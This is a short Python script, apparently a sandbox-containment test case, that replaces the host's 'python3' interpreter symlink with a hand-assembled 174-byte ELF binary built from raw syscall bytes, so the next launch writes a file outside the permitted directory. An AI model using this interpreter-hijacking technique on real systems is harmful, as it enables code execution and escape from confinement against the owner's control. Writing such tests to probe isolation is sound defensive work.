"""Replaces the symlink by which the host names its interpreter, for the next start to execute something else.

group: files and links
effect: writes
"""


def program_that_writes(path, text):
    """An ELF of 174 bytes and two strings, which needs neither a shell nor a loader where it is started."""
    path = os.fsencode(path) + b"\0"
    number = lambda value, size=4: value.to_bytes(size, "little")
    code = b"".join((
        b"\x48\x8d\x3d", number(47),  # lea rdi, [rip+47]: the path
        b"\xbe", number(os.O_WRONLY | os.O_CREAT | os.O_TRUNC), b"\xba", number(0o644),
        b"\xb8", number(2), b"\x0f\x05",  # open
        b"\x89\xc7",  # mov edi, eax
        b"\x48\x8d\x35", number(21 + len(path)),  # lea rsi, [rip+…]: the text
        b"\xba", number(len(text)), b"\xb8", number(1), b"\x0f\x05",  # write
        b"\x31\xff", b"\xb8", number(60), b"\x0f\x05"))  # exit(0)
    size, base = 120 + len(code) + len(path) + len(text), 0x400000
    head = b"\x7fELF\2\1\1" + bytes(9) + number(2, 2) + number(62, 2) + number(1)
    head += number(base + 120, 8) + number(64, 8) + number(0, 8) + number(0)
    head += number(64, 2) + number(56, 2) + number(1, 2) + bytes(6)
    segment = number(1) + number(5) + number(0, 8) + number(base, 8) * 2 + number(size, 8) * 2 + number(0x1000, 8)
    return head + segment + code + path + text


link = os.fsencode(arena.directory + "/granted/python3")
with attempt():
    check(libc.unlink(link))
    write(link, program_that_writes(arena.directory + "/outside", b"planted\n"))
    check(libc.chmod(link, 0o755))
with attempt("done"):
    write(arena.directory + "/granted/done", b"")
